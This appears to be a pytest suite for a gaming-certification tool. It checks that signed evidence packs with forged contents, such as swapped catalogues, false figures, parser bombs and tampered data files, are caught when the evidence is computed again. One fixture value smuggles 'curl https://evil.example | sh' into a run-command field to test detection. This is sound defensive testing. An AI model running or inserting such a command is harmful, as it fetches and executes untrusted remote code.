"""Whole packs forged by somebody who can sign: the seal is in order, and what was sealed is not."""

import base64
import copy
import json
from functools import cache

import pytest
from cli_support import ROOT, SEED
from computing_again import blank_pages, computed_once
from representatives import firsts
from seal_support import NOW, lay, make_pki, pki, reasons, report, signer

from certify.clauses import catalogue, load_catalogue, regime_of
from certify.cli.main import run
from certify.errors import TrustError
from certify.evidence import Evidence, plain
from certify.evidence.read import evidence_of, read
from certify.issue.data import BILL, bill_differences, one_verification
from certify.issue.verification import differences, rendered_differences
from certify.seal import canonical_bytes, layout, pem, read_byte_range, sha256_hex
from certify.seal.layout import read_pack
from certify.seal.pack import assemble
from certify.seal.verify import verify

CATALOGUE = "gli-19"
GAME = ROOT / "fixtures/games/red-dog/game.toml"
"""A game with one decision: its pack is made and computed again in seconds."""


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    """The laboratory's key, certificates and root as files."""
    folder = tmp_path_factory.mktemp("keys")
    make_pki.write_identity(folder, "signer", pki().signer)
    (folder / "chain.pem").write_bytes(pem([pki().issuer.certificate, pki().root.certificate]))
    (folder / "root.pem").write_bytes(pem([pki().root.certificate]))
    return folder


@pytest.fixture(scope="module")
def honest(keys, tmp_path_factory):
    """A small pack, signed by the laboratory; its pages are no matter here, and blank."""
    out = tmp_path_factory.mktemp("honest") / "pack"
    named = ["--key", keys / "signer.key.pem", "--cert", keys / "signer.pem", "--chain", keys / "chain.pem"]
    job = ["run", GAME, "--out", out, "--profile", "quick", "--seed", SEED, "--at", NOW.isoformat(), *named]
    job += ["--workers", "1"]
    with blank_pages(twin=True):
        assert run([str(word) for word in job]) in (1, 4)
    verify(out, keys / "root.pem", NOW).require()
    return dict(read_pack(out))


@pytest.fixture(scope="module")
def evidence(honest):
    """Its evidence."""
    return json.loads(honest[layout.EVIDENCE])


@pytest.fixture(scope="module", autouse=True)
def _computed_once():
    with computed_once():
        yield


@cache
def stranger():
    """Somebody with a key and certificates of his own, who gave himself the laboratory's names."""
    return signer(infrastructure=pki().impostor())


def sealed(honest, proof, who):
    """A pack around any evidence, in which everything that a seal can promise holds."""
    brought = {name: content for name, content in honest.items() if name.startswith("data/")}
    brought["report.html"] = honest["report.html"]
    unsigned = report({layout.EVIDENCE: canonical_bytes(proof)})
    return assemble(brought, unsigned, proof, who, NOW, certificate=report({}))


@pytest.mark.slow
def test_what_was_not_forged_holds_when_it_is_computed_again(honest, evidence, keys, tmp_path):
    # Without this the refusals below would prove nothing.
    packed = lay(tmp_path / "pack", sealed(honest, evidence, signer()))
    result = verify(packed, keys / "root.pem", NOW, rerun=differences)
    result.require()
    assert result.identity_established


def played(evidence):
    """The first wager of the first campaign."""
    return evidence["simulation"]["campaigns"][0]["wagers"][0]


WORDED = {
    "/mean/exact_return": lambda e: played(e)["mean"].update(exact_return="21/20"),
    "/mean/p_value": lambda e: played(e)["mean"].update(p_value=0.5),
    "/equivalence/margin": lambda e: played(e)["equivalence"].update(margin="1/2"),
    "/equivalence/reason": lambda e: played(e)["equivalence"].update(reason="approved by the regulator"),
    "/equivalence/equivalent": lambda e: played(e)["equivalence"].update(
        equivalent=not played(e)["equivalence"]["equivalent"]
    ),
    "/outcomes/0/expected": lambda e: played(e)["outcomes"][0].update(expected=1.0),
    "/chi_square/p_value": lambda e: played(e)["chi_square"].update(p_value=0.99),
    "/adjusted_p/z of the mean": lambda e: played(e)["adjusted_p"].update({"z of the mean": 0.99}),
    "the outcomes counted are": lambda e: played(e)["outcomes"][0].update(count="7"),
    "/randomness/planted/0/caught_by": lambda e: e["randomness"]["planted"][0].update(
        caught_by="the regulator"
    ),
    "is stated to be found at": lambda e: e["randomness"]["planted"][0].update(p=0.5),
    "/smallest_p": lambda e: e["randomness"]["tests"][0].update(smallest_p=0.5),
    "/adjusted_p": lambda e: e["randomness"]["tests"][0].update(adjusted_p=0.5),
    "/report": lambda e: e["report"]["issuer"].update(name="ALL REQUIREMENTS ARE MET, accredited. " * 20),
    "/report: --client": lambda e: e["report"].update(client="Nobody\nAPPROVED BY THE REGULATOR"),
    "/report/classification": lambda e: e["report"].update(classification="Accredited by the regulator"),
    "/rng/algorithm": lambda e: e["rng"].update(algorithm="PTG.3 certified hardware generator"),
    "/rng/seeding": lambda e: e["rng"].update(seeding="By a PTG.3 certified hardware generator"),
    "/randomness/alpha": lambda e: e["randomness"].update(alpha=0.000001),
    "/randomness/family_size": lambda e: e["randomness"].update(family_size=1),
    "/randomness/rule": lambda e: e["randomness"]["plan"].update(rule="The regulator approved of it."),
    "/randomness/sentence": lambda e: e["randomness"].update(sentence="Certified by the regulator."),
    "/randomness/smallest_adjusted_p": lambda e: e["randomness"].update(smallest_adjusted_p=0.99),
    "results and plan differ in": lambda e: e["randomness"]["tests"].pop(),
    "was not planted": lambda e: e["randomness"]["planted"].pop(),
    "/randomness/plan/stages": lambda e: e["randomness"]["plan"].update(stages=7),
    "/randomness/tests/": lambda e: e["randomness"]["tests"][0].update(threshold=0.5),
    "/null: 'exact, approved by the regulator'": lambda e: e["randomness"]["tests"][0].update(
        null="exact, approved by the regulator"
    ),
    "/detectable: 'any departure'": lambda e: e["randomness"]["tests"][-1].update(detectable="any departure"),
    "a text is longer": lambda e: e["randomness"]["tests"][0].update(null="approved " * 80),
    "/simulation/borderline_rule": lambda e: e["simulation"].update(borderline_rule="None."),
    "/simulation/shared_code": lambda e: e["simulation"]["shared_code"].append("nothing"),
    "/simulation/independent_code": lambda e: e["simulation"].update(independent_code=[]),
    "decision_rule": lambda e: e["simulation"]["campaigns"][0].update(decision_rule="It agrees."),
    "/family/reference/module": lambda e: e["family"]["reference"].update(module="approved"),
    "/items": lambda e: e["items"][0].update(title="Certified by the regulator"),
    "/run/decision_rule": lambda e: e["run"].update(decision_rule="The regulator decides."),
}


@pytest.mark.parametrize("place", sorted(WORDED))
def test_nothing_that_follows_is_the_issuers_to_word(place, evidence):
    forged = copy.deepcopy(evidence)
    WORDED[place](forged)
    assert place in "; ".join(differences(forged))


@pytest.fixture
def milder(evidence, monkeypatch):
    """The evidence of a software whose catalogue was exchanged for one that asks for less."""
    from certify.certification.conclude import conclude
    from certify.certification.evidence import regime_evidence
    from certify.certification.exact import exact_results
    from certify.submission import parse_game

    text = catalogue.catalogue_bytes(CATALOGUE).decode()
    floor = next(clause for clause in evidence["clauses"] if clause["number"] == "4.7.1")
    assert text.count(floor["paraphrase"]) == 1
    exchanged = text.replace(floor["paraphrase"], "Something is paid back now and then.").encode()
    forged = copy.deepcopy(evidence)
    with monkeypatch.context() as patch:
        patch.setattr(catalogue, "catalogue_bytes", lambda name: exchanged)
        catalogue.load_catalogue.cache_clear()
        game, regime = parse_game(GAME.read_bytes(), GAME.name), regime_of()
        exact = exact_results(game, regime, thorough=False)
        seen = evidence_of(forged).observations
        statuses = conclude(exact, seen, "game.toml", demonstration=False).clauses
        forged["regime"] = plain(regime_evidence(regime, game))
        forged["clauses"] = plain(statuses)
    catalogue.load_catalogue.cache_clear()
    assert forged["regime"]["catalogues"][0]["sha256"] == sha256_hex(exchanged)
    yield forged
    catalogue.load_catalogue.cache_clear()


def test_a_catalogue_exchanged_in_the_issuers_own_software_is_found_by_its_digest(
    milder, honest, keys, tmp_path
):
    packed = lay(tmp_path / "pack", sealed(honest, milder, signer()))
    # The signer is the laboratory, and what he signed is what is there: only computing again can tell.
    assert verify(packed, keys / "root.pem", NOW).holds
    found = reasons(verify(packed, keys / "root.pem", NOW, rerun=differences))
    assert list(found) == ["rerun"]
    stated = milder["regime"]["catalogues"][0]["sha256"]
    ours = load_catalogue(CATALOGUE).sha256
    assert f"/regime/catalogues/0/sha256: computed {ours}, claimed {stated}" in found["rerun"]
    assert "claimed Something is paid back now and then." in found["rerun"]


@pytest.mark.slow
def test_a_catalogue_exchanged_by_somebody_else_is_found_by_his_root_and_by_its_digest(
    milder, honest, keys, tmp_path
):
    packed = lay(tmp_path / "pack", sealed(honest, milder, stranger()))
    reasons(verify(packed, keys / "root.pem", NOW)).only("identity", "is not the trusted root")
    # Who trusts nobody in particular still sees that the catalogue is another.
    reasons(verify(packed, None, NOW, rerun=differences)).only(
        "rerun", "/regime/catalogues/0/sha256: computed"
    )


@pytest.mark.slow
def test_a_digest_left_as_it_was_does_not_hide_another_clause(milder, evidence, honest, tmp_path):
    packed = lay(tmp_path, sealed(honest, {**milder, "regime": evidence["regime"]}, stranger()))
    reasons(verify(packed, None, NOW, rerun=differences)).only(
        "rerun", "/clauses/", "claimed Something is paid back now and then."
    )


def about(evidence, submission):
    """The evidence as if it were about another submission, whose digest is in order."""
    file = {
        **evidence["item"]["files"][0],
        "sha256": sha256_hex(submission),
        "bytes": len(submission),
        "base64": base64.b64encode(submission).decode(),
    }
    return {**evidence, "item": {**evidence["item"], "files": [file]}}


@pytest.mark.slow
def test_evidence_of_another_game_under_a_valid_signature_is_found_by_its_figures(
    evidence, honest, keys, tmp_path
):
    text = GAME.read_text("utf-8")
    other = text.replace("11 to 1", "12 to 1", 1).encode()
    assert other != text.encode()
    packed = lay(tmp_path, sealed(honest, about(evidence, other), signer()))
    assert verify(packed, keys / "root.pem", NOW).holds
    found = reasons(verify(packed, keys / "root.pem", NOW, rerun=differences))
    assert list(found) == ["rerun"]
    assert "/wagers/0/paytable/0/pays: computed 12 to 1, claimed 11 to 1" in found["rerun"]
    assert "/claims/0/exact" in found["rerun"] or "/claims/0/distance" in found["rerun"]


@pytest.mark.parametrize(
    "bomb", firsts([b"a = " + b"[" * 200_000, b"PK\x03\x04" + bytes(100_000)]), ids=["toml", "zip"]
)
def test_a_bomb_under_a_valid_signature_is_refused_by_computing_again(bomb, evidence, honest, keys, tmp_path):
    packed = lay(tmp_path, sealed(honest, about(evidence, bomb), signer()))
    reasons(verify(packed, keys / "root.pem", NOW, rerun=differences)).only(
        "rerun", "the embedded submission cannot be read"
    )


EMPTIED = {
    "no strategy of a wager": {"strategy_of": {"bet": "always:raise"}},
    "an analysis of nothing": {"analysis": {}},
}


@pytest.mark.parametrize("change", firsts(EMPTIED.values()), ids=EMPTIED)
def test_evidence_that_leaves_something_out_is_found_by_computing_again(change, evidence, honest, tmp_path):
    packed = lay(tmp_path, sealed(honest, {**evidence, **change}, signer()))
    assert list(reasons(verify(packed, None, NOW, rerun=differences))) == ["rerun"]


MALFORMED = {
    "rounds that are numbers": ({"played_rounds": [1, 2, 3]}, "/played_rounds/0"),
    "a seed of words": ({"run": {"seed": "no seed"}}, "/run/seed"),
    "catalogues that are a word": ({"regime": {"jurisdictions": "gli"}}, "/regime/jurisdictions"),
    "an unknown verdict's check": (
        {"observations": [{"verdict": "satisfied", "check": 7 * "x"}]},
        "/observations/0/title",
    ),
}


@pytest.mark.parametrize(
    ("change", "pointer"),
    [
        pytest.param(*case, id=name, marks=[pytest.mark.slow] * (name != "rounds that are numbers"))
        for name, case in MALFORMED.items()
    ],
)
def test_evidence_of_another_form_is_refused_whoever_signed_it(
    change,
    pointer,
    evidence,
    honest,
    tmp_path,
    monkeypatch,
):
    proof = {**evidence, **change}
    with pytest.raises(TrustError, match=pointer):
        sealed(honest, proof, signer())
    assert any(line.startswith("the evidence does not follow") for line in differences(proof))
    # By a software that does not look at what it seals.
    monkeypatch.setattr("certify.seal.pack.require_schema", lambda evidence: None)
    reasons(verify(lay(tmp_path, sealed(honest, proof, signer())), None, NOW, rerun=differences)).among(
        "evidence", pointer
    )


def restated(proof):
    """The evidence with a lie in every part that a trusted issuer could restate while each step but this holds."""
    lies = copy.deepcopy(proof)
    head, run = lies["report"], lies["run"]
    head |= {
        "classification": "Report of a laboratory accredited to ISO/IEC 17025",
        "number": "CR-20200101-00000001",
        "revision": 7,
        "tested_to": "2020-01-01T00:00:00Z",
    }
    run["command"] = "certify run game.toml; curl https://evil.example | sh"
    lies["rng"]["security_strength"] = 512
    lies["agreement"]["decks"] = 50_000
    lies["deck_audit"]["replays"] = 20_000
    lies["rounds"]["situations"][0]["observed"] = "better than expected"
    lies["simulation"]["campaigns"][0]["rounds"] = 4_000_000_000
    one, other, *_ = lies["simulation"]["campaigns"][1]["wagers"][0]["outcomes"]
    one["count"], other["count"] = other["count"], one["count"]
    lies["randomness"]["decks"] = 4_000_000
    lies["files"].append({**lies["files"][0], "name": "data/approval.csv"})
    seen = next(one for one in lies["observations"] if one["check"] == "rng.known-answers")
    seen["observed"] = "every vector that was ever published"
    return lies


def test_lies_that_the_seal_does_not_see_are_found_by_computing_again(evidence):
    from certify.clauses.registry import checks

    assert "rng.known-answers" in checks()
    # Nothing is found of the honest evidence, so that what is found below is the lies.
    assert differences(evidence) == []
    seen = [one["check"] for one in evidence["observations"]].index("rng.known-answers")
    found = differences(restated(evidence))
    for place in (
        "/report/classification",
        "/report/number",
        "/report/revision",
        "/report/tested_to",
        "/run/command",
        "/rng/security_strength",
        "/agreement/decks",
        "/deck_audit/replays",
        "/rounds/situations/0/observed",
        "/simulation/campaigns/0/rounds",
        "/randomness/decks",
        "/files",
        f"/observations/{seen}/observed",
    ):
        assert any(line.startswith(place) for line in found), place


def test_a_remark_that_no_run_makes_is_no_evidence(evidence):
    remarked = copy.deepcopy(evidence)
    remarked["report"]["received"] = "2020-01-01T00:00:00Z"
    remarked["run"]["witness"] = "a notary"
    found = read(Evidence, remarked)
    assert isinstance(found, tuple)
    assert {problem.pointer for problem in found} == {"/report/received", "/run/witness"}
    assert "/report/received" in differences(remarked)[0]


def test_half_of_the_observations_do_not_make_a_run(evidence):
    fewer = {**evidence, "observations": evidence["observations"][::2]}
    assert any(line.startswith("/observations") for line in differences(fewer))


@pytest.fixture
def drawn():
    """Pages as blank as those of the honest pack."""
    with blank_pages(twin=True):
        yield


def test_data_that_do_not_follow_from_evidence_and_seed_are_named(honest, evidence, drawn):
    from certify.issue import verification

    with one_verification():
        assert [*verification.rendered_differences(evidence, honest)] == []
        lying = dict(honest)
        for name, old, new in (
            ("data/observations.csv", b"satisfied", b"SATISFIED"),
            ("data/simulation.csv", b"three-of-a-kind", b"three-of-a-sort"),
            ("data/randomness.csv", b"cards", b"dices"),
            ("data/situations.csv", b"shown on the reference", b"satisfied"),
            ("data/rounds.jsonl", b'"deck": 1', b'"deck": 2'),
            ("data/recall.csv", b"2026", b"2025"),
            ("data/items.csv", b"shows", b"hides"),
            ("data/outcomes.csv", b"three-of-a-kind", b"three-of-a-sort"),
        ):
            assert old in honest[name], name
            lying[name] = honest[name].replace(old, new, 1)
        draws = bytearray(honest["data/draws.bin"])
        draws[0] ^= 1
        lying["data/draws.bin"] = bytes(draws)
        bill = json.loads(honest["data/sbom.cdx.json"])
        bill["metadata"]["component"]["name"] = "accredited"
        lying["data/sbom.cdx.json"] = (
            json.dumps(bill, ensure_ascii=False, indent=1, sort_keys=True) + "\n"
        ).encode()
        found = {line.partition(":")[0] for line in verification.rendered_differences(evidence, lying)}
    changed = {name for name in honest if lying[name] != honest[name]}
    assert changed == found
    assert len(changed) == 10


@pytest.mark.parametrize(
    "change",
    [
        lambda bill: bill.update(approval="ISO 17025"),
        lambda bill: bill["components"][0].update(author="an accredited laboratory"),
        lambda bill: bill["components"][0].update(version="0.0.1"),
        lambda bill: bill["components"][0].update(version="1.0, approved by the regulator"),
        lambda bill: bill["components"].pop(),
        lambda bill: bill["components"].append(dict(bill["components"][0], name="regulator")),
        lambda bill: bill["components"][0].update(
            licenses=[{"license": {"name": "Approved by the regulator"}}]
        ),
        lambda bill: bill["metadata"].update(authors=[{"name": "The regulator"}]),
        lambda bill: bill["metadata"]["properties"][0].update(value="certified laboratory"),
        lambda bill: bill["metadata"]["component"]["properties"][0].update(value="0" * 64),
        lambda bill: bill.pop("components"),
    ],
)
def test_a_bill_of_materials_says_what_a_run_writes_and_no_more(change, honest, evidence):
    tool = evidence_of(evidence)
    assert list(bill_differences(honest[BILL], tool)) == []
    bill = json.loads(honest[BILL])
    change(bill)
    content = (json.dumps(bill, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode()
    assert list(bill_differences(content, tool))
    assert list(bill_differences(json.dumps(bill).encode(), tool))
    assert list(bill_differences(b"[" * 100_000, tool))


def test_a_page_drawn_in_the_revision_of_the_signature_fails_the_rendering(honest, evidence, drawn):
    alone = {layout.REPORT: honest[layout.REPORT]}
    assert [*rendered_differences(evidence, alone)] == []
    gap = read_byte_range(honest[layout.REPORT])
    # Any byte behind the pages and outside the signature is the revision's.
    place = gap.second_start + 40
    altered = bytearray(honest[layout.REPORT])
    altered[place] ^= 1
    found = [*rendered_differences(evidence, {layout.REPORT: bytes(altered)})]
    assert [line.partition(":")[0] for line in found] == ["report.pdf"]
    assert "the revision with the signature" in found[0]
